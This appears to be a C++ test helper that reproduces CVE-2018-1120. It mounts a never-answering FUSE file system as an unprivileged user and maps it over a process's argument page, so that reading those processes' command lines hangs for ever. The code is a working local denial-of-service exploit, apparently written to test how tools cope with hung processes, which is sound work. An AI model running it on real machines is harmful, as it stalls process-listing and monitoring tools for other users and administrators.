// SPDX-License-Identifier: Apache-2.0
//
// Two unprivileged processes whose command lines cannot be read without waiting for ever, as in
// CVE-2018-1120. One maps a file of a FUSE server that never answers over the page of its
// arguments. The other keeps its memory lock busy: a tracer waits in that file's page while a
// thread waits to map.
//
// Usage: hung_argv DIRECTORY FUSE-DEVICE     prints "ready" and runs until it is killed
// Exit code 77: this machine does not let an unprivileged user mount a FUSE file system.
#include <fcntl.h>
#include <grp.h>
#include <linux/fuse.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>

namespace {

constexpr std::size_t kPage = 4096;

[[noreturn]] void give_up(const char* what) {
    std::perror(what);
    std::exit(77);
}

void write_file(const char* path, const std::string& text) {
    const int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, text.data(), text.size()) != static_cast<ssize_t>(text.size()))
        give_up(path);
    close(fd);
}

// Becomes nobody, and root of a user and mount namespace of its own.
void become_unprivileged() {
    constexpr unsigned kNobody = 65534;
    if (geteuid() == 0 &&
        (setgroups(0, nullptr) != 0 || setresgid(kNobody, kNobody, kNobody) != 0 ||
         setresuid(kNobody, kNobody, kNobody) != 0))
        give_up("becoming nobody");
    prctl(PR_SET_DUMPABLE, 1); // /proc/self belongs to the new user
    const std::string uid = std::to_string(geteuid()), gid = std::to_string(getegid());
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
        give_up("unshare");
    write_file("/proc/self/setgroups", "deny");
    write_file("/proc/self/uid_map", "0 " + uid + " 1");
    write_file("/proc/self/gid_map", "0 " + gid + " 1");
    if (mount("none", "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0)
        give_up("making mounts private");
}

fuse_attr attributes(bool file) {
    fuse_attr attr{};
    attr.ino = file ? 2 : 1;
    attr.size = file ? kPage : 0;
    attr.mode = file ? S_IFREG | 0666 : S_IFDIR | 0777;
    attr.nlink = 1;
    attr.blksize = kPage;
    return attr;
}

struct Answer {
    fuse_out_header header{};
    union {
        fuse_init_out init;
        fuse_entry_out entry;
        fuse_attr_out attr;
        fuse_open_out open;
    };
    Answer() { std::memset(static_cast<void*>(this), 0, sizeof *this); }
};

// Fills the answer to a request. Returns its size behind the header, or -1 for no answer at all.
int answer(const fuse_in_header& request, Answer& out) {
    constexpr unsigned kLong = 1000; // seconds that an answer is valid
    switch (request.opcode) {
    case FUSE_INIT:
        out.init.major = 7;
        out.init.minor = 31;
        out.init.max_readahead = out.init.max_write = kPage;
        return sizeof out.init;
    case FUSE_LOOKUP:
        out.entry.nodeid = 2;
        out.entry.attr_valid = out.entry.entry_valid = kLong;
        out.entry.attr = attributes(true);
        return sizeof out.entry;
    case FUSE_GETATTR:
        out.attr.attr_valid = kLong;
        out.attr.attr = attributes(request.nodeid == 2);
        return sizeof out.attr;
    case FUSE_OPEN:
    case FUSE_OPENDIR: return sizeof out.open;
    case FUSE_READ:
    case FUSE_FORGET:
    case FUSE_BATCH_FORGET:
    case FUSE_INTERRUPT: return -1;
    default: out.header.error = -ENOSYS; return 0;
    }
}

[[noreturn]] void serve(int device) {
    static std::array<char, 1 << 17> buffer;
    for (;;) {
        const ssize_t got = read(device, buffer.data(), buffer.size());
        if (got < 0 && errno != EINTR && errno != EAGAIN && errno != ENOENT)
            _exit(0);
        if (got < static_cast<ssize_t>(sizeof(fuse_in_header)))
            continue;
        fuse_in_header request{};
        std::memcpy(&request, buffer.data(), sizeof request);
        Answer out;
        const int size = answer(request, out);
        if (size < 0)
            continue;
        out.header.unique = request.unique;
        out.header.len =
            static_cast<std::uint32_t>(sizeof out.header) + static_cast<std::uint32_t>(size);
        if (write(device, &out, out.header.len) < 0)
            std::perror("answering");
    }
}

// Runs `body` in a child that dies with this process; returns when the child says that it is ready.
template <typename Body>
void in_child(Body body) {
    int ready[2];
    if (pipe(ready) != 0)
        give_up("pipe");
    if (fork() == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        body(ready[1]);
        for (;;)
            pause();
    }
    close(ready[1]);
    char byte = 0;
    if (read(ready[0], &byte, 1) != 1)
        give_up("a child ended");
    close(ready[0]);
}

void* map_hung(const std::string& path, void* at) {
    const int file = open(path.c_str(), O_RDWR | O_CLOEXEC);
    void* mapped = mmap(at, kPage, PROT_READ | PROT_WRITE,
                        MAP_PRIVATE | (at != nullptr ? MAP_FIXED : 0), file, 0);
    if (mapped == MAP_FAILED)
        give_up("mapping the file");
    return mapped;
}

// The page of the first argument: field 48 of /proc/self/stat (proc(5)).
void* argument_page() {
    std::array<char, 4096> text{};
    const int fd = open("/proc/self/stat", O_RDONLY | O_CLOEXEC);
    if (read(fd, text.data(), text.size() - 1) <= 0)
        give_up("/proc/self/stat");
    close(fd);
    const char* field = std::strrchr(text.data(), ')') + 1;
    for (int number = 2; number < 48; ++number)
        field = std::strchr(field, ' ') + 1;
    return reinterpret_cast<void*>(std::strtoul(field, nullptr, 10) & ~(kPage - 1));
}

// The child's memory lock is held for reading by the tracer, which waits for the page, and a thread
// waits to write. Every later reader waits behind that thread.
void hold_memory_lock(const std::string& path, int ready) {
    int address[2];
    if (pipe(address) != 0)
        give_up("pipe");
    const pid_t tracee = fork();
    if (tracee == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        void* hung = map_hung(path, nullptr);
        std::thread([] {
            for (;;) {
                usleep(200'000);
                munmap(mmap(nullptr, kPage, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), kPage);
            }
        }).detach();
        if (ptrace(PTRACE_TRACEME, 0, nullptr, nullptr) != 0 ||
            write(address[1], static_cast<const void*>(&hung), sizeof hung) != sizeof hung)
            _exit(1);
        raise(SIGSTOP);
        _exit(0);
    }
    void* hung = nullptr;
    if (read(address[0], static_cast<void*>(&hung), sizeof hung) != sizeof hung ||
        waitpid(tracee, nullptr, 0) != tracee)
        give_up("the tracee ended");
    std::thread([ready] {
        usleep(600'000);
        if (write(ready, "r", 1) != 1)
            _exit(1);
    }).detach();
    ptrace(PTRACE_PEEKDATA, tracee, hung, nullptr);
}

} // namespace

int main(int argc, char** argv) {
    if (argc != 3) {
        std::fputs("usage: hung_argv DIRECTORY FUSE-DEVICE\n", stderr);
        return 2;
    }
    become_unprivileged();
    const std::string directory = argv[1], path = directory + "/file";
    const int device = open(argv[2], O_RDWR | O_CLOEXEC);
    if (device < 0)
        give_up(argv[2]);
    const std::string options =
        "fd=" + std::to_string(device) + ",rootmode=40000,user_id=0,group_id=0";
    if (mount("hung", directory.c_str(), "fuse", MS_NOSUID | MS_NODEV, options.c_str()) != 0)
        give_up("mounting");
    in_child([device](int ready) {
        if (write(ready, "r", 1) == 1)
            serve(device);
    });
    close(device);
    in_child([&path](int ready) {
        map_hung(path, argument_page());
        if (write(ready, "r", 1) != 1)
            _exit(1);
    });
    in_child([&path](int ready) { hold_memory_lock(path, ready); });
    std::puts("ready");
    std::fflush(stdout);
    for (;;)
        pause();
}
